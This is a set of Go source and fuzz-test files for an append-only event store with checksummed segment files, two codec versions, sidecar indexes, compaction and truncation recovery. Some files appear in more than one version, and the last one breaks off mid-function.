		magic = segMagicV2
		enc = newBinEncoder()
	}
	if _, err := f.Write([]byte(magic)); err != nil {
		f.Close()
		return nil, fmt.Errorf("evstore: %w", err)
	}
	s.nextN++
	return &segmentWriter{
		f:   f,
		enc: enc,
		info: SegmentInfo{N: n, Path: path, Index: Index{
			Version: IndexVersion, Bytes: int64(len(magic)),
			Codec: string(s.opts.Codec),
		}},
		actors: map[string]struct{}{},
	}, nil
}

// flushCur writes buffered frames through to the file. Batched
// appends mean one syscall per FlushEvery events, not per event.
func (s *Store) flushCur() error {
	w := s.cur
	if w == nil || len(w.pending) == 0 {
		return nil
	}
	if _, err := w.f.Write(w.pending); err != nil {
		return fmt.Errorf("evstore: %w", err)
	}
	w.pending = w.pending[:0]
	w.unflushed = 0
	return nil
}

// sealCur flushes the active segment, writes its sidecar, and retires
// it to the readable set.
func (s *Store) sealCur() error {
	w := s.cur
	if w == nil {
		return nil
	}
	if err := s.flushCur(); err != nil {
		return err
	}
	if err := w.f.Close(); err != nil {
		return fmt.Errorf("evstore: %w", err)
	}
	w.info.Index.seal(w.actors)
	if err := writeIndex(indexPath(w.info.Path), w.info.Index); err != nil {
		return err
	}
	s.sealed = append(s.sealed, w.info)
	s.cur = nil
	return nil
}

// Sync flushes buffered frames to the OS without sealing.
func (s *Store) Sync() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.err != nil {
		return s.err
	}
	if err := s.flushCur(); err != nil {
		s.err = err
	}
	return s.err
}

// Close seals the active segment (if any) and returns the sticky
// error. The store stays usable for reads; a later Append starts a
// fresh segment.
func (s *Store) Close() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if err := s.sealCur(); err != nil && s.err == nil {
		s.err = err
	}
	return s.err
}

// Compact enforces retention: it deletes the oldest sealed segments
// (data and sidecar) so that at most keep remain, and returns how
// many were removed. The active segment is untouched. keep < 0 is an
// error; keep == 0 drops all sealed history. Removal is oldest-first
// and each segment's sidecar goes before its data, so a crash
// mid-compaction leaves at worst an orphan data file that the next
// Open re-indexes — never an index without data.
func (s *Store) Compact(keep int) (int, error) {
	if keep < 0 {
		return 0, fmt.Errorf("evstore: negative retention %d", keep)
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.readOnly {
		return 0, fmt.Errorf("evstore: store opened read-only")
	}
	drop := len(s.sealed) - keep
	if drop <= 0 {
		return 0, nil
	}
	for i := 0; i < drop; i++ {
		seg := s.sealed[i]
		if err := os.Remove(indexPath(seg.Path)); err != nil && !os.IsNotExist(err) {
			s.sealed = s.sealed[i:]
			return i, fmt.Errorf("evstore: %w", err)
		}
		if err := os.Remove(seg.Path); err != nil {
			s.sealed = s.sealed[i:]
			return i, fmt.Errorf("evstore: %w", err)
		}
	}
	s.sealed = append([]SegmentInfo(nil), s.sealed[drop:]...)
	return drop, nil
}

func indexPath(segPath string) string {
	return segPath[:len(segPath)-len(".ev")] + ".idx"
}

func loadIndex(path string) (Index, bool) {
	data, err := os.ReadFile(path)
	if err != nil {
		return Index{}, false
	}
	var ix Index
	if err := json.Unmarshal(data, &ix); err != nil || ix.Version != IndexVersion {
		return Index{}, false
	}
	return ix, true
}

func writeIndex(path string, ix Index) error {
	data, err := json.Marshal(ix)
	if err != nil {
		return fmt.Errorf("evstore: %w", err)
	}
	if err := os.WriteFile(path, data, 0o644); err != nil {
		return fmt.Errorf("evstore: %w", err)
	}
	return nil
}
