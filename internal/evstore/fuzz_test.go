package evstore

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"hash/crc32"
	"testing"
	"time"

	"repro/internal/trace"
)

// buildSegment assembles valid segment bytes for fuzz seeds.
func buildSegment(events ...trace.Event) []byte {
	var b bytes.Buffer
	b.WriteString(segMagic)
	for _, e := range events {
		payload, _ := json.Marshal(e)
		var hdr [frameHeaderLen]byte
		binary.LittleEndian.PutUint32(hdr[0:4], uint32(len(payload)))
		binary.LittleEndian.PutUint32(hdr[4:8], crc32.ChecksumIEEE(payload))
		b.Write(hdr[:])
		b.Write(payload)
	}
	return b.Bytes()
}

// FuzzReadSegment feeds arbitrary bytes through the frame decoder.
// The contract under attack: never panic, never report more valid
// bytes than exist, always cut cleanly at the first bad frame (the
// valid prefix must re-decode without truncation), and account for
// every lost tail byte. The CI fuzz-smoke step picks this target up
// automatically alongside the other parsers' fuzzers.
func FuzzReadSegment(f *testing.F) {
	at := time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC)
	valid := buildSegment(
		trace.Event{Seq: 1, Time: at, Kind: trace.KindExec, User: "alice", Code: "print(1)"},
		trace.Event{Seq: 2, Time: at.Add(time.Second), Kind: trace.KindAuth, SrcIP: "10.0.0.1", Op: "deny"},
	)
	f.Add(valid)
	f.Add(valid[:len(valid)-3])            // torn final frame
	f.Add(append(valid, 0xde, 0xad, 0xbe)) // trailing garbage
	corrupt := append([]byte(nil), valid...)
	corrupt[len(segMagic)+frameHeaderLen+4] ^= 0xff // flip a payload byte: CRC must catch it
	f.Add(corrupt)
	f.Add([]byte(segMagic))
	f.Add([]byte("not a segment at all"))
	huge := append([]byte(segMagic), 0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0) // implausible length
	f.Add(huge)

	f.Fuzz(func(t *testing.T, data []byte) {
		var events int
		res, err := DecodeFrames(bytes.NewReader(data), int64(len(data)), func(trace.Event) error {
			events++
			return nil
		})
		if err != nil {
			t.Fatalf("decode with nil-erroring fn returned %v", err)
		}
		if res.Events != events {
			t.Fatalf("result counts %d events, fn saw %d", res.Events, events)
		}
		if res.ValidBytes < 0 || res.ValidBytes > int64(len(data)) {
			t.Fatalf("valid bytes %d out of range [0,%d]", res.ValidBytes, len(data))
		}
		if res.Truncated {
			if res.ValidBytes+res.TailLossBytes != int64(len(data)) {
				t.Fatalf("valid %d + lost %d != total %d", res.ValidBytes, res.TailLossBytes, len(data))
			}
		} else if res.TailLossBytes != 0 {
			t.Fatalf("clean decode reported %d lost bytes", res.TailLossBytes)
		}
		// The valid prefix is self-consistent: re-decoding it yields
		// the same events with no truncation — the invariant Open's
		// truncate-at-first-bad-frame recovery relies on.
		if res.Truncated && res.ValidBytes >= int64(len(segMagic)) {
			again, err := DecodeFrames(bytes.NewReader(data[:res.ValidBytes]), res.ValidBytes, func(trace.Event) error { return nil })
			if err != nil {
				t.Fatal(err)
			}
			if again.Truncated || again.Events != res.Events {
				t.Fatalf("valid prefix re-decode: %+v, want clean %d events", again, res.Events)
			}
		}
	})
}
