package evstore

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"hash/crc32"
	"testing"
	"time"

	"repro/internal/trace"
)

// buildSegment assembles valid segment bytes for fuzz seeds.
func buildSegment(events ...trace.Event) []byte {
	var b bytes.Buffer
	b.WriteString(segMagic)
	for _, e := range events {
		payload, _ := json.Marshal(e)
		var hdr [frameHeaderLen]byte
		binary.LittleEndian.PutUint32(hdr[0:4], uint32(len(payload)))
		binary.LittleEndian.PutUint32(hdr[4:8], crc32.ChecksumIEEE(payload))
		b.Write(hdr[:])
		b.Write(payload)
	}
	return b.Bytes()
}

// buildSegmentV2 assembles valid binary-v2 segment bytes — dictionary
// frames interleaved before their first use, exactly as the writer
// emits them.
func buildSegmentV2(events ...trace.Event) []byte {
	out := []byte(segMagicV2)
	enc := newBinEncoder()
	for _, e := range events {
		var err error
		out, err = enc.appendEvent(out, e)
		if err != nil {
			panic(err)
		}
	}
	return out
}

// FuzzReadSegment feeds arbitrary bytes through the frame decoder.
// The contract under attack: never panic, never report more valid
// bytes than exist, always cut cleanly at the first bad frame (the
// valid prefix must re-decode without truncation), and account for
// every lost tail byte. The CI fuzz-smoke step picks this target up
// automatically alongside the other parsers' fuzzers.
func FuzzReadSegment(f *testing.F) {
	at := time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC)
	valid := buildSegment(
		trace.Event{Seq: 1, Time: at, Kind: trace.KindExec, User: "alice", Code: "print(1)"},
		trace.Event{Seq: 2, Time: at.Add(time.Second), Kind: trace.KindAuth, SrcIP: "10.0.0.1", Op: "deny"},
	)
	f.Add(valid)
	f.Add(valid[:len(valid)-3])            // torn final frame
	f.Add(append(valid, 0xde, 0xad, 0xbe)) // trailing garbage
	corrupt := append([]byte(nil), valid...)
	corrupt[len(segMagic)+frameHeaderLen+4] ^= 0xff // flip a payload byte: CRC must catch it
	f.Add(corrupt)
	f.Add([]byte(segMagic))
	f.Add([]byte("not a segment at all"))
	huge := append([]byte(segMagic), 0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0) // implausible length
	f.Add(huge)

	// Binary-v2 seeds: the same torn/corrupt shapes, plus the v2-only
	// failure modes — a dangling dictionary reference and an unknown
	// frame type, both CRC-valid so only the payload decode can object.
	validV2 := buildSegmentV2(
		trace.Event{Seq: 1, Time: at, Kind: trace.KindExec, User: "alice", Code: "print(1)"},
		trace.Event{Seq: 2, Time: at.Add(time.Second), Kind: trace.KindExec, User: "alice", Op: "run"},
		trace.Event{Seq: 3, Time: at.Add(2 * time.Second), Kind: trace.KindAuth, SrcIP: "10.0.0.1"},
	)
	f.Add(validV2)
	f.Add(validV2[:len(validV2)-3])
	f.Add(append(validV2, 0xde, 0xad, 0xbe))
	corruptV2 := append([]byte(nil), validV2...)
	corruptV2[len(corruptV2)-1] ^= 0xff
	f.Add(corruptV2)
	appendV2Frame := func(dst, payload []byte) []byte {
		dst = binary.LittleEndian.AppendUint32(dst, uint32(len(payload)))
		dst = binary.LittleEndian.AppendUint32(dst, crc32.Checksum(payload, castagnoli))
		return append(dst, payload...)
	}
	dangling := appendV2Frame([]byte(segMagicV2), []byte{frameEvent, 0x09}) // kind = dict ref 8, never defined
	f.Add(dangling)
	f.Add(appendV2Frame([]byte(segMagicV2), []byte{0x7f, 1, 2, 3})) // unknown frame type
	f.Add(appendV2Frame([]byte(segMagicV2), []byte{frameDict}))     // empty dictionary entry

	// Arena edge cases. Inline strings near and past the arena chunk
	// size: two near-chunk values force a value to span a chunk
	// rollover, the oversized one takes the dedicated-chunk path; the
	// torn variant cuts the stream mid-frame — i.e. mid-arena-chunk on
	// the decode side — so recovery runs with a partially filled arena.
	bigV2 := buildSegmentV2(
		trace.Event{Seq: 1, Kind: trace.KindExec, User: "alice", Code: string(bytes.Repeat([]byte("A"), 60<<10))},
		trace.Event{Seq: 2, Kind: trace.KindExec, User: "alice", Code: string(bytes.Repeat([]byte("B"), 60<<10))},
		trace.Event{Seq: 3, Kind: trace.KindExec, User: "alice", Code: string(bytes.Repeat([]byte("C"), 70<<10))},
	)
	f.Add(bigV2)
	f.Add(bigV2[:len(bigV2)-(30<<10)]) // torn tail mid-arena-chunk

	f.Fuzz(func(t *testing.T, data []byte) {
		var events int
		var plainJSON [][]byte
		res, err := DecodeFrames(bytes.NewReader(data), int64(len(data)), func(e trace.Event) error {
			events++
			j, jerr := json.Marshal(e)
			if jerr != nil {
				return jerr
			}
			plainJSON = append(plainJSON, j)
			return nil
		})
		if err != nil {
			t.Fatalf("decode with nil-erroring fn returned %v", err)
		}
		if res.Events != events {
			t.Fatalf("result counts %d events, fn saw %d", res.Events, events)
		}
		if res.ValidBytes < 0 || res.ValidBytes > int64(len(data)) {
			t.Fatalf("valid bytes %d out of range [0,%d]", res.ValidBytes, len(data))
		}
		if res.Truncated {
			if res.ValidBytes+res.TailLossBytes != int64(len(data)) {
				t.Fatalf("valid %d + lost %d != total %d", res.ValidBytes, res.TailLossBytes, len(data))
			}
		} else if res.TailLossBytes != 0 {
			t.Fatalf("clean decode reported %d lost bytes", res.TailLossBytes)
		}
		// The valid prefix is self-consistent: re-decoding it yields
		// the same events with no truncation — the invariant Open's
		// truncate-at-first-bad-frame recovery relies on.
		if res.Truncated && res.ValidBytes >= int64(len(segMagic)) {
			again, err := DecodeFrames(bytes.NewReader(data[:res.ValidBytes]), res.ValidBytes, func(trace.Event) error { return nil })
			if err != nil {
				t.Fatal(err)
			}
			if again.Truncated || again.Events != res.Events {
				t.Fatalf("valid prefix re-decode: %+v, want clean %d events", again, res.Events)
			}
		}
		// Arena differential: the arena-backed decode must agree with
		// the copying decode byte-for-byte (JSON re-encoding) on every
		// input, including every corruption the fuzzer invents — same
		// events, same truncation verdict, same loss accounting.
		var arenaEvents int
		sc := &decodeScratch{arena: &trace.Arena{}}
		resA, err := decodeFrames(bytes.NewReader(data), int64(len(data)), nil, sc, func(e trace.Event) error {
			if arenaEvents >= len(plainJSON) {
				t.Fatalf("arena decode produced extra event %d", arenaEvents)
			}
			j, jerr := json.Marshal(e)
			if jerr != nil {
				return jerr
			}
			if !bytes.Equal(j, plainJSON[arenaEvents]) {
				t.Fatalf("arena decode diverged at event %d:\nplain %s\narena %s",
					arenaEvents, plainJSON[arenaEvents], j)
			}
			arenaEvents++
			return nil
		})
		if err != nil {
			t.Fatalf("arena decode returned %v", err)
		}
		if arenaEvents != events || resA != res {
			t.Fatalf("arena decode result diverged: %+v (%d events), plain %+v (%d events)",
				resA, arenaEvents, res, events)
		}
	})
}
