package evstore

import (
	"bufio"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"sort"
	"time"

	"repro/internal/trace"
)

// Segment file layout: an 8-byte magic followed by frames of
//
//	uint32le payload length | uint32le CRC32(payload) | payload
//
// Two segment versions share that framing and differ in what the
// payload is:
//
//   - EVSEG001 (v1, codec "json"): every payload is one JSON-encoded
//     trace.Event, checksummed with CRC32-IEEE.
//   - EVSEG002 (v2, codec "binary"): payloads are typed, checksummed
//     with hardware-accelerated CRC32-Castagnoli. A dictionary frame
//     (type 0x01) defines the next sequential string-interning
//     reference for the segment; an event frame (type 0x02) carries
//     the event's kind and actor key as dictionary-or-inline strings,
//     then the compact tagged binary body (trace.AppendBinaryEvent).
//     Dictionary entries always precede their first use, so any valid
//     frame prefix is self-contained — truncation recovery works
//     exactly as in v1. The kind+actor header lets a filtered replay
//     skip the body decode entirely for non-matching events.
//
// Anything that fails the length bound, the checksum, or the decode
// marks the end of the valid prefix: readers stop there and report
// the remainder as tail loss, and the writer truncates it away on
// open so appends never land after garbage.
const (
	segMagic   = "EVSEG001"
	segMagicV2 = "EVSEG002"
	// maxFrame bounds a frame payload, matching trace.Decoder's line
	// bound; a larger length prefix is corruption, not a big event.
	maxFrame = 16 << 20

	frameHeaderLen = 8

	// v2 frame payload types.
	frameDict  = 0x01
	frameEvent = 0x02

	// Interning policy: strings longer than this, or arriving after
	// the dictionary is full, are inlined instead. The cap bounds the
	// decoder's per-segment dictionary memory independently of
	// SegmentBytes.
	maxInternLen = 128
	maxDictRefs  = 1 << 16
)

// castagnoli is the CRC32-Castagnoli table v2 frames use; amd64 and
// arm64 compute it with the dedicated CRC32 instructions. v1 keeps
// IEEE for compatibility with every segment already on disk.
var castagnoli = crc32.MakeTable(crc32.Castagnoli)

// Codec names a segment payload encoding.
type Codec string

const (
	// CodecBinary writes v2 segments: compact tagged binary events
	// with a per-segment interning dictionary. The default.
	CodecBinary Codec = "binary"
	// CodecJSON writes v1 segments: one JSON event per frame — the
	// escape hatch for tooling that greps segment files directly.
	CodecJSON Codec = "json"
)

// ParseCodec validates a --codec flag value.
func ParseCodec(s string) (Codec, error) {
	switch Codec(s) {
	case CodecBinary, CodecJSON:
		return Codec(s), nil
	case "":
		return CodecBinary, nil
	}
	return "", fmt.Errorf("evstore: unknown codec %q: want binary or json", s)
}

// IndexVersion is the sidecar schema version this build writes.
// Unknown versions are rebuilt from the segment data, never trusted.
const IndexVersion = 1

// Index is the per-segment sidecar: enough metadata to decide, without
// touching the segment data, whether a filtered replay can skip the
// segment entirely. Invariants: it is written only after the segment's
// frames are flushed (so a present sidecar describes a cleanly sealed
// segment), counts cover exactly the valid frame prefix, and the actor
// list is either exact or marked overflowed (never silently partial).
type Index struct {
	Version int   `json:"version"`
	Events  int   `json:"events"`
	Bytes   int64 `json:"bytes"` // valid file length including magic

	// Codec records the segment's payload encoding ("json" for v1,
	// "binary" for v2) — diagnostic only; readers trust the magic.
	Codec string `json:"codec,omitempty"`

	// Sequence range: not a replay-filter facet (Filter has no seq
	// bounds), but the cheap cross-segment ordering witness — tests
	// and diagnostics verify segments don't overlap, and Compact's
	// survivors can be sanity-checked against the dropped range.
	MinSeq  uint64    `json:"min_seq"`
	MaxSeq  uint64    `json:"max_seq"`
	MinTime time.Time `json:"min_time"`
	MaxTime time.Time `json:"max_time"`

	// Kinds counts events per kind; a filtered replay skips the
	// segment when no requested kind appears.
	Kinds map[trace.Kind]int `json:"kinds,omitempty"`

	// Actors lists the distinct actor keys (trace.ActorKey) seen, up
	// to the store's MaxActors cap; past the cap ActorsOverflow is set
	// and the list cleared, meaning "could contain anyone".
	Actors         []string `json:"actors,omitempty"`
	ActorsOverflow bool     `json:"actors_overflow,omitempty"`
}

// observe folds one event into the index.
func (ix *Index) observe(e trace.Event, frameBytes int64, actors map[string]struct{}, maxActors int) {
	if ix.Events == 0 || e.Seq < ix.MinSeq {
		ix.MinSeq = e.Seq
	}
	if e.Seq > ix.MaxSeq {
		ix.MaxSeq = e.Seq
	}
	if !e.Time.IsZero() {
		if ix.MinTime.IsZero() || e.Time.Before(ix.MinTime) {
			ix.MinTime = e.Time
		}
		if e.Time.After(ix.MaxTime) {
			ix.MaxTime = e.Time
		}
	}
	if ix.Kinds == nil {
		ix.Kinds = map[trace.Kind]int{}
	}
	ix.Kinds[e.Kind]++
	ix.Events++
	ix.Bytes += frameBytes
	if !ix.ActorsOverflow {
		actors[trace.ActorKey(e)] = struct{}{}
		if len(actors) > maxActors {
			ix.ActorsOverflow = true
			for k := range actors {
				delete(actors, k)
			}
		}
	}
}

// seal finalizes the actor list for writing.
func (ix *Index) seal(actors map[string]struct{}) {
	if ix.ActorsOverflow {
		ix.Actors = nil
		return
	}
	ix.Actors = make([]string, 0, len(actors))
	for a := range actors {
		ix.Actors = append(ix.Actors, a)
	}
	sort.Strings(ix.Actors)
}

// binEncoder is the per-segment binary-codec write state: the
// string-interning dictionary and a reused scratch buffer, so the hot
// append path allocates only for genuinely new dictionary entries.
type binEncoder struct {
	dict    map[string]uint64
	scratch []byte
}

func newBinEncoder() *binEncoder {
	return &binEncoder{dict: make(map[string]uint64)}
}

// appendFrame appends one length+CRC32C framed payload to dst.
func appendFrameV2(dst, payload []byte) []byte {
	dst = binary.LittleEndian.AppendUint32(dst, uint32(len(payload)))
	dst = binary.LittleEndian.AppendUint32(dst, crc32.Checksum(payload, castagnoli))
	return append(dst, payload...)
}

// appendEvent appends the v2 frames encoding e — any new dictionary
// entries first, then the event frame — to dst and returns the
// extended slice. Dictionary entries therefore always precede their
// first reference, keeping every valid frame prefix self-contained.
func (enc *binEncoder) appendEvent(dst []byte, e trace.Event) ([]byte, error) {
	dictStart := uint64(len(enc.dict))
	intern := func(s string) (uint64, bool) {
		if ref, ok := enc.dict[s]; ok {
			return ref, true
		}
		if len(s) == 0 || len(s) > maxInternLen || uint64(len(enc.dict)) >= maxDictRefs {
			return 0, false
		}
		ref := uint64(len(enc.dict))
		enc.dict[s] = ref
		dst = appendFrameV2(dst, append([]byte{frameDict}, s...))
		return ref, true
	}
	enc.scratch = enc.scratch[:0]
	enc.scratch = append(enc.scratch, frameEvent)
	enc.scratch = trace.AppendBinaryString(enc.scratch, string(e.Kind), intern)
	enc.scratch = trace.AppendBinaryString(enc.scratch, trace.ActorKey(e), intern)
	enc.scratch = trace.AppendBinaryEvent(enc.scratch, e, intern)
	if len(enc.scratch) > maxFrame {
		// The caller discards the returned slice growth on error, so any
		// dictionary frames staged for this event never reach disk; drop
		// their map entries too or later events would reference ids the
		// reader has never seen.
		for s, ref := range enc.dict {
			if ref >= dictStart {
				delete(enc.dict, s)
			}
		}
		return dst, fmt.Errorf("evstore: event of %d bytes exceeds frame limit", len(enc.scratch))
	}
	return appendFrameV2(dst, enc.scratch), nil
}

// DecodeResult reports what a segment scan found: how much of the
// file was a valid frame sequence and how much trailing corruption
// (if any) was cut off.
type DecodeResult struct {
	Events     int
	ValidBytes int64 // length of the valid prefix including magic
	// Skipped counts v2 event frames whose checksum was verified but
	// whose body was never decoded, because the push-down predicate
	// ruled them out from the frame header alone.
	Skipped int
	// Codec is the segment encoding the magic announced ("json" or
	// "binary"), or "" when even the magic was unreadable.
	Codec Codec
	// TailLossBytes is how many trailing bytes were unreadable —
	// non-zero only when Truncated is set.
	TailLossBytes int64
	Truncated     bool
	// Reason describes the first bad frame when Truncated.
	Reason string
}

// DecodeFrames scans a segment byte stream of either version,
// invoking fn for every valid event in order. Corruption — bad magic,
// an absurd length, a checksum or decode failure, a short final frame
// — never returns an error: the scan stops at the first bad frame and
// the result records the clean prefix and the reason. A non-nil error
// from fn aborts the scan and is returned as-is. size is the total
// stream length if known (for tail-loss accounting), or -1.
func DecodeFrames(r io.Reader, size int64, fn func(trace.Event) error) (DecodeResult, error) {
	return decodeFrames(r, size, nil, nil, fn)
}

// decodeScratch is the reusable per-segment decode state: the read
// buffer, the frame payload buffer, the dictionary slice, and — when
// Replay owns the lifecycle — a string arena. Reusing one scratch
// across the segments of a pass keeps a full-store replay at
// O(segments) allocations; a nil scratch means "allocate fresh",
// which is what the one-shot DecodeFrames/scanSegment paths use.
//
// arena is deliberately opt-in: with it set, every decoded event's
// inline strings (and the segment dictionary's entries) live in arena
// chunks instead of individual heap allocations. The arena is
// append-only (see trace.Arena), so decoded strings stay valid even
// after the scratch is recycled for the next segment — recycling
// reuses the *containers* (buffers, slices), never string bytes.
type decodeScratch struct {
	br      *bufio.Reader
	payload []byte
	dict    []string
	arena   *trace.Arena
}

// decodeFrames is DecodeFrames plus the v2 push-down hook and scratch
// reuse: when skip is non-nil it is consulted with each event frame's
// header kind and actor key, after the checksum verifies but before
// the body decodes; returning true drops the frame without decoding
// it. v1 segments have no header to push into, so skip is ignored
// there and per-event filtering stays with the caller. sc may be nil.
func decodeFrames(r io.Reader, size int64, skip func(kind trace.Kind, actor string) bool, sc *decodeScratch, fn func(trace.Event) error) (DecodeResult, error) {
	var res DecodeResult
	if sc == nil {
		sc = &decodeScratch{}
	}
	if sc.br == nil {
		sc.br = bufio.NewReaderSize(r, 256<<10)
	} else {
		sc.br.Reset(r)
	}
	br := sc.br
	truncate := func(reason string) (DecodeResult, error) {
		res.Truncated = true
		res.Reason = reason
		if size >= 0 {
			res.TailLossBytes = size - res.ValidBytes
		}
		return res, nil
	}

	magic := make([]byte, len(segMagic))
	if _, err := io.ReadFull(br, magic); err != nil {
		return truncate("missing magic")
	}
	var binaryCodec bool
	switch string(magic) {
	case segMagic:
		res.Codec = CodecJSON
	case segMagicV2:
		res.Codec = CodecBinary
		binaryCodec = true
	default:
		return truncate("bad magic")
	}
	res.ValidBytes = int64(len(segMagic))

	crcTable := crc32.IEEETable
	if binaryCodec {
		crcTable = castagnoli
	}
	dict := sc.dict[:0]
	lookup := func(ref uint64) (string, bool) {
		if ref >= uint64(len(dict)) {
			return "", false
		}
		return dict[ref], true
	}

	var hdr [frameHeaderLen]byte
	// One scratch buffer serves every frame, grown geometrically so a
	// run of monotonically larger frames doesn't reallocate per frame.
	// Decoded events copy whatever they keep (into sc.arena when set),
	// so the payload never escapes the loop and the hot replay path
	// stays allocation-free per event. The event is hoisted too: &e
	// escapes into json.Unmarshal, so an in-loop declaration would
	// heap-allocate every event.
	payload := sc.payload
	defer func() {
		// Hand grown capacity back so the next segment reuses it.
		sc.dict = dict[:0]
		sc.payload = payload[:0]
	}()
	var e trace.Event
	for {
		if _, err := io.ReadFull(br, hdr[:]); err != nil {
			if err == io.EOF {
				return res, nil // clean end of segment
			}
			return truncate("short frame header")
		}
		length := binary.LittleEndian.Uint32(hdr[0:4])
		sum := binary.LittleEndian.Uint32(hdr[4:8])
		if length == 0 || length > maxFrame {
			return truncate("implausible frame length")
		}
		if uint32(cap(payload)) < length {
			newCap := 2 * cap(payload)
			if newCap < int(length) {
				newCap = int(length)
			}
			if newCap < 4096 {
				newCap = 4096
			}
			payload = make([]byte, newCap)
		}
		payload = payload[:length]
		if _, err := io.ReadFull(br, payload); err != nil {
			return truncate("short frame payload")
		}
		if crc32.Checksum(payload, crcTable) != sum {
			return truncate("checksum mismatch")
		}
		e = trace.Event{}
		if binaryCodec {
			switch payload[0] {
			case frameDict:
				// Materialized exactly once per segment; every event that
				// cites the entry shares this string by reference. With an
				// arena the copy out of the reused payload buffer lands in
				// a chunk instead of its own allocation.
				if sc.arena != nil {
					dict = append(dict, sc.arena.String(payload[1:]))
				} else {
					dict = append(dict, string(payload[1:]))
				}
				res.ValidBytes += frameHeaderLen + int64(length)
				continue
			case frameEvent:
				kind, n1, err := trace.DecodeBinaryStringArena(payload[1:], lookup, sc.arena)
				if err != nil {
					return truncate("frame not an event")
				}
				actor, n2, err := trace.DecodeBinaryStringArena(payload[1+n1:], lookup, sc.arena)
				if err != nil {
					return truncate("frame not an event")
				}
				if skip != nil && skip(trace.Kind(kind), actor) {
					res.ValidBytes += frameHeaderLen + int64(length)
					res.Skipped++
					continue
				}
				e, err = trace.DecodeBinaryEventArena(payload[1+n1+n2:], trace.Kind(kind), lookup, sc.arena)
				if err != nil {
					return truncate("frame not an event")
				}
			default:
				return truncate("unknown frame type")
			}
		} else {
			if err := json.Unmarshal(payload, &e); err != nil {
				return truncate("frame not an event")
			}
		}
		res.ValidBytes += frameHeaderLen + int64(length)
		res.Events++
		if err := fn(e); err != nil {
			return res, err
		}
	}
}

// scanSegment decodes a segment file from disk.
func scanSegment(path string, fn func(trace.Event) error) (DecodeResult, error) {
	return scanSegmentFiltered(path, nil, fn)
}

// scanSegmentFiltered decodes a segment file with an optional v2
// push-down predicate.
func scanSegmentFiltered(path string, skip func(kind trace.Kind, actor string) bool, fn func(trace.Event) error) (DecodeResult, error) {
	return scanSegmentScratch(path, skip, nil, fn)
}

// scanSegmentScratch is scanSegmentFiltered with reusable decode
// scratch — the replay paths thread one scratch (and its arena)
// across all the segments they visit.
func scanSegmentScratch(path string, skip func(kind trace.Kind, actor string) bool, sc *decodeScratch, fn func(trace.Event) error) (DecodeResult, error) {
	f, err := os.Open(path)
	if err != nil {
		return DecodeResult{}, err
	}
	defer f.Close()
	st, err := f.Stat()
	if err != nil {
		return DecodeResult{}, err
	}
	return decodeFrames(f, st.Size(), skip, sc, fn)
}

// rebuildIndex reconstructs a sidecar by scanning the segment data —
// the recovery path for a segment whose writer died before sealing.
func rebuildIndex(path string, maxActors int) (Index, DecodeResult, error) {
	ix := Index{Version: IndexVersion}
	actors := map[string]struct{}{}
	res, err := scanSegment(path, func(e trace.Event) error {
		// Frame size is re-derived from the marshalled form below via
		// ValidBytes, so observe with zero and fix Bytes afterwards.
		ix.observe(e, 0, actors, maxActors)
		return nil
	})
	if err != nil {
		return Index{}, res, err
	}
	ix.seal(actors)
	ix.Bytes = res.ValidBytes
	ix.Codec = string(res.Codec)
	return ix, res, nil
}
