package evstore

import (
	"bufio"
	"encoding/binary"
	"encoding/json"
	"hash/crc32"
	"io"
	"os"
	"sort"
	"time"

	"repro/internal/trace"
)

// Segment file layout: an 8-byte magic followed by frames of
//
//	uint32le payload length | uint32le CRC32-IEEE(payload) | payload
//
// where the payload is one JSON-encoded trace.Event. Anything that
// fails the length bound, the checksum, or the decode marks the end
// of the valid prefix: readers stop there and report the remainder as
// tail loss, and the writer truncates it away on open so appends
// never land after garbage.
const (
	segMagic = "EVSEG001"
	// maxFrame bounds a frame payload, matching trace.Decoder's line
	// bound; a larger length prefix is corruption, not a big event.
	maxFrame = 16 << 20

	frameHeaderLen = 8
)

// IndexVersion is the sidecar schema version this build writes.
// Unknown versions are rebuilt from the segment data, never trusted.
const IndexVersion = 1

// Index is the per-segment sidecar: enough metadata to decide, without
// touching the segment data, whether a filtered replay can skip the
// segment entirely. Invariants: it is written only after the segment's
// frames are flushed (so a present sidecar describes a cleanly sealed
// segment), counts cover exactly the valid frame prefix, and the actor
// list is either exact or marked overflowed (never silently partial).
type Index struct {
	Version int   `json:"version"`
	Events  int   `json:"events"`
	Bytes   int64 `json:"bytes"` // valid file length including magic

	// Sequence range: not a replay-filter facet (Filter has no seq
	// bounds), but the cheap cross-segment ordering witness — tests
	// and diagnostics verify segments don't overlap, and Compact's
	// survivors can be sanity-checked against the dropped range.
	MinSeq  uint64    `json:"min_seq"`
	MaxSeq  uint64    `json:"max_seq"`
	MinTime time.Time `json:"min_time"`
	MaxTime time.Time `json:"max_time"`

	// Kinds counts events per kind; a filtered replay skips the
	// segment when no requested kind appears.
	Kinds map[trace.Kind]int `json:"kinds,omitempty"`

	// Actors lists the distinct actor keys (trace.ActorKey) seen, up
	// to the store's MaxActors cap; past the cap ActorsOverflow is set
	// and the list cleared, meaning "could contain anyone".
	Actors         []string `json:"actors,omitempty"`
	ActorsOverflow bool     `json:"actors_overflow,omitempty"`
}

// observe folds one event into the index.
func (ix *Index) observe(e trace.Event, frameBytes int64, actors map[string]struct{}, maxActors int) {
	if ix.Events == 0 || e.Seq < ix.MinSeq {
		ix.MinSeq = e.Seq
	}
	if e.Seq > ix.MaxSeq {
		ix.MaxSeq = e.Seq
	}
	if !e.Time.IsZero() {
		if ix.MinTime.IsZero() || e.Time.Before(ix.MinTime) {
			ix.MinTime = e.Time
		}
		if e.Time.After(ix.MaxTime) {
			ix.MaxTime = e.Time
		}
	}
	if ix.Kinds == nil {
		ix.Kinds = map[trace.Kind]int{}
	}
	ix.Kinds[e.Kind]++
	ix.Events++
	ix.Bytes += frameBytes
	if !ix.ActorsOverflow {
		actors[trace.ActorKey(e)] = struct{}{}
		if len(actors) > maxActors {
			ix.ActorsOverflow = true
			for k := range actors {
				delete(actors, k)
			}
		}
	}
}

// seal finalizes the actor list for writing.
func (ix *Index) seal(actors map[string]struct{}) {
	if ix.ActorsOverflow {
